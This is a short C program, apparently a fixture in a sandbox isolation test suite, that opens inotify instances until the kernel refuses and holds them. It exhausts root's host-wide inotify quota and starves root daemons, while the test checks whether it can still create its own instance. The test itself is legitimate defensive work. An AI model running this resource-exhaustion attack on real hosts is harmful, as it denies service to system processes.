// Attack: take every inotify instance of the host's root. Each run's user namespace is made
// by root, so its instances count against root's host-wide quota (fs.inotify.max_user_
// instances): a program that creates them all leaves every root daemon (and the server)
// without. Creates instances until the kernel refuses (at most 4096), prints how many and
// why it stopped, says "holding" and keeps them until its stdin closes; meanwhile the test
// makes an inotify instance of its own, as root.
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/resource.h>
#include <unistd.h>

int main(void) {
    struct rlimit rl;
    getrlimit(RLIMIT_NOFILE, &rl);
    int n = 0;
    const char *why = "limit";
    while (n < 4096) {
        if (inotify_init1(IN_CLOEXEC) < 0) {
            why = strerrorname_np(errno);
            break;
        }
        n++;
    }
    printf("inotify %d %s\n", n, why);
    printf("holding\n");
    fflush(stdout);
    char c;
    while (read(0, &c, 1) > 0) {
    }
    return 0;
}
